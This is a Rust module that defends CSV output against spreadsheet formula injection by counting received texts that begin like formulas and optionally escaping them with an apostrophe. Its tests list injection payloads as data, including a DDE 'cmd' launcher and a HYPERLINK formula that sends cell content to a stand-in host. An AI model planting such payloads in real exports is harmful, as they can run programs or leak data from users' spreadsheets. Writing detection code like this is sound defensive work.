//! Received texts that a spreadsheet would take for formulas.
//!
//! The other side chooses its values and the names of its columns. A spreadsheet that opens delimited text evaluates
//! each field that begins like a formula, which may show a link, send the content of other cells, or start a program.
//! So such texts are counted and reported, and get an apostrophe before them on request, as OWASP describes under "CSV
//! injection".

use std::{
    borrow::Cow,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
};

use serde::Serialize;
use vesica_core::{error::Result, words::counted};
use vesica_normalize::shown::shown;

use crate::{
    results::{ResultTable, ResultValues},
    sent_types::SentType,
    written::{Matched, Received},
};

/// The treatment of received texts that begin like formulas, in delimited text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Formulas {
    /// They stay as they are.
    #[default]
    Keep,
    /// They get an apostrophe before them, so that spreadsheets show them as text.
    Escape,
}

/// The texts of a received column that begin like formulas.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ColumnFormulas {
    /// The name of the column, as the other side gave it.
    pub column: String,
    /// Whether the name itself is one of them.
    pub name: bool,
    /// The number of such values among those that were written.
    pub values: u64,
    /// Whether they got an apostrophe before them.
    pub escaped: bool,
}

impl ColumnFormulas {
    /// Returns a sentence for a person who opens the output.
    pub fn sentence(&self) -> String {
        let Self { column, name, values, escaped } = self;
        let column = shown(column);
        let which = match (name, values) {
            (true, 0) => format!("the name of the received column `{column}` begins"),
            (true, values) => format!(
                "the name of the received column `{column}` and {} in it begin",
                counted(*values, "value")
            ),
            (false, 1) => format!("1 value in the received column `{column}` begins"),
            (false, values) => {
                format!("{} in the received column `{column}` begin", counted(*values, "value"))
            }
        };
        let what = match escaped {
            true => "; an apostrophe stands before each",
            false => ", and nothing was changed; --formulas escape puts an apostrophe before each",
        };
        format!("{which} like a spreadsheet formula{what}")
    }
}

/// Whether spreadsheets take a field for a formula. They do not take a signed number for one, such as `-5` or `+49 30
/// 1234`.
fn is_formula(text: &str) -> bool {
    match text.chars().next() {
        Some(
            '=' | '@' | '\t' | '\r' | '\n' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}',
        ) => true,
        Some('+' | '-') => text.len() > 1 && !is_number(&text[1..]),
        _ => false,
    }
}

/// Whether a text is a number without a sign: digits with marks between them, and an optional exponent.
fn is_number(text: &str) -> bool {
    let (number, exponent) = match text.split_once(['e', 'E']) {
        Some((number, exponent)) => (number, exponent.strip_prefix(['+', '-']).unwrap_or(exponent)),
        None => (text, "0"),
    };
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let is_mark = |c: char| matches!(c, '.' | ',' | ' ' | '\'' | '\u{a0}' | '\u{202f}');
    number.contains(|c: char| c.is_ascii_digit())
        && number.chars().all(|c| c.is_ascii_digit() || is_mark(c))
        && digits(exponent)
}

impl Formulas {
    fn written<'a>(self, text: Cow<'a, str>) -> Cow<'a, str> {
        match self {
            Self::Escape if is_formula(&text) => Cow::Owned(format!("'{text}")),
            _ => text,
        }
    }
}

/// Counts of formulas that grow while rows are written.
pub struct Findings {
    formulas: Formulas,
    names: Vec<String>,
    values: Arc<Vec<AtomicU64>>,
}

impl Findings {
    /// Returns the columns that have any.
    pub fn into_columns(self) -> Vec<ColumnFormulas> {
        let Self { formulas, names, values } = self;
        let columns = names.into_iter().zip(&*values).map(|(column, values)| ColumnFormulas {
            name: is_formula(&column),
            column,
            values: values.load(Ordering::Relaxed),
            escaped: formulas == Formulas::Escape,
        });
        columns.filter(|column| column.name || column.values > 0).collect()
    }
}

impl Matched {
    /// Counts received texts that begin like formulas while they are written, and treats them. Returns `None` if
    /// nothing is received.
    pub(crate) fn watch_formulas(&mut self, formulas: Formulas) -> Option<Findings> {
        let received = self.received.take()?;
        let names = received.names().to_vec();
        let values: Arc<Vec<_>> = Arc::new(names.iter().map(|_| AtomicU64::new(0)).collect());
        let written = |name: &String| formulas.written(Cow::Borrowed(name)).into_owned();
        self.received = Some(Box::new(Watched {
            names: names.iter().map(written).collect(),
            received,
            formulas,
            values: values.clone(),
        }));
        Some(Findings { formulas, names, values })
    }
}

impl ResultTable {
    /// Counts texts that begin like formulas, and treats them: names of columns, and values of the other side.
    pub fn watch_formulas(&mut self, formulas: Formulas) -> Vec<ColumnFormulas> {
        let escaped = formulas == Formulas::Escape;
        let mut found = Vec::new();
        for column in &mut self.columns {
            let mut of_column = ColumnFormulas {
                column: column.name.clone(),
                name: is_formula(&column.name),
                values: 0,
                escaped,
            };
            column.name = formulas.written(Cow::Borrowed(&column.name)).into_owned();
            if let (true, ResultValues::Text(values)) = (column.is_received, &mut column.values) {
                for text in values.iter_mut().flatten().filter(|text| is_formula(text)) {
                    of_column.values += 1;
                    *text = formulas.written(Cow::Borrowed(text)).into_owned();
                }
            }
            found.extend(Some(of_column).filter(|column| column.name || column.values > 0));
        }
        found
    }
}

/// Received columns whose values are examined as they are written.
struct Watched {
    received: Box<dyn Received>,
    names: Vec<String>,
    formulas: Formulas,
    values: Arc<Vec<AtomicU64>>,
}

impl Received for Watched {
    fn names(&self) -> &[String] {
        &self.names
    }

    fn types(&self) -> &[SentType] {
        self.received.types()
    }

    fn values(&self, nth: usize) -> Result<Vec<Option<Cow<'_, str>>>> {
        let mut values = self.received.values(nth)?;
        for (value, count) in values.iter_mut().zip(&*self.values) {
            if let Some(text) = value.take_if(|text| is_formula(text)) {
                count.fetch_add(1, Ordering::Relaxed);
                *value = Some(self.formulas.written(text));
            }
        }
        Ok(values)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_differ_from_numbers_and_words() {
        for text in [
            "=1+1",
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://a.example/\"&A1)",
            "+1+1",
            "-2+3",
            "-x",
            "--",
            "+e5",
            "-1e",
            "-1e5x",
            "@SUM(1)",
            "@",
            "\t=1",
            "\r=1",
            "\n=1",
            "\u{ff1d}1",
            "\u{ff0b}1",
            "\u{ff0d}1",
            "\u{ff20}SUM(1)",
        ] {
            assert!(is_formula(text), "{text:?}");
        }
        for text in [
            "",
            "a=1",
            "-",
            "+",
            "-5",
            "+5",
            "-0.5",
            "-.5",
            "-1,234.50",
            "-1e-7",
            "+2E5",
            "+49 30 1234",
            "-1'000",
            "-1\u{a0}000",
            "'=1",
            " =1",
            "e-mail@example.org",
            "gold",
        ] {
            assert!(!is_formula(text), "{text:?}");
        }
    }

    #[test]
    fn results_are_treated_like_rows() {
        let texts = || ResultValues::Text(["=1", "+2", "b"].map(|s| Some(s.to_owned())).to_vec());
        let column = |name: &str, values, is_received| crate::results::ResultColumn {
            name: name.to_owned(),
            values,
            is_received,
        };
        for formulas in [Formulas::Keep, Formulas::Escape] {
            let mut table = ResultTable {
                columns: vec![
                    column("b.label", texts(), true),
                    column("a.label", texts(), false),
                    column("@n", ResultValues::Integer(vec![Some(-1); 3]), false),
                ],
            };
            let found = table.watch_formulas(formulas);
            let escaped = formulas == Formulas::Escape;
            let counts: Vec<_> =
                found.iter().map(|one| (&*one.column, one.name, one.values)).collect();
            assert_eq!(counts, [("b.label", false, 1), ("@n", true, 0)]);
            assert!(found.iter().all(|one| one.escaped == escaped));
            let first: Vec<_> = table.texts().swap_remove(0);
            assert_eq!(first, [if escaped { "'=1" } else { "=1" }, "=1", "-1"]);
            assert_eq!(table.columns[2].name, if escaped { "'@n" } else { "@n" });
        }
    }

    struct Two;

    impl Received for Two {
        fn names(&self) -> &[String] {
            static NAMES: std::sync::LazyLock<Vec<String>> =
                std::sync::LazyLock::new(|| ["=x", "note"].map(str::to_owned).to_vec());
            &NAMES
        }

        fn values(&self, nth: usize) -> Result<Vec<Option<Cow<'_, str>>>> {
            let values = [[None, Some("=1+1")], [Some("-5"), Some("@a")], [Some(""), Some("b")]];
            Ok(values[nth].map(|value| value.map(Cow::Borrowed)).to_vec())
        }
    }

    #[test]
    fn received_texts_are_counted_and_escaped_on_request() {
        let written = |formulas| {
            let mut matched = Matched { received: Some(Box::new(Two)), ..Matched::default() };
            let found = matched.watch_formulas(formulas).unwrap();
            let received = matched.received.as_ref().unwrap();
            let values = (0..3).map(|nth| received.values(nth).unwrap()).collect::<Vec<_>>();
            let text = |value: &Option<Cow<'_, str>>| value.as_deref().unwrap_or("-").to_owned();
            let values: Vec<_> = values.iter().flatten().map(text).collect();
            (received.names().to_vec(), values, found.into_columns())
        };
        let (names, values, found) = written(Formulas::Keep);
        assert_eq!(
            (&names[..], &values[..]),
            (
                &["=x".to_owned(), "note".to_owned()][..],
                &["-", "=1+1", "-5", "@a", "", "b"].map(str::to_owned)[..]
            )
        );
        let column = |column: &str, name, values, escaped| ColumnFormulas {
            column: column.to_owned(),
            name,
            values,
            escaped,
        };
        assert_eq!(found, [column("=x", true, 0, false), column("note", false, 2, false)]);
        let (names, values, found) = written(Formulas::Escape);
        assert_eq!(names, ["'=x", "note"]);
        assert_eq!(values, ["-", "'=1+1", "-5", "'@a", "", "b"]);
        assert_eq!(found, [column("=x", true, 0, true), column("note", false, 2, true)]);
        assert!(Matched::default().watch_formulas(Formulas::Keep).is_none());
    }
}
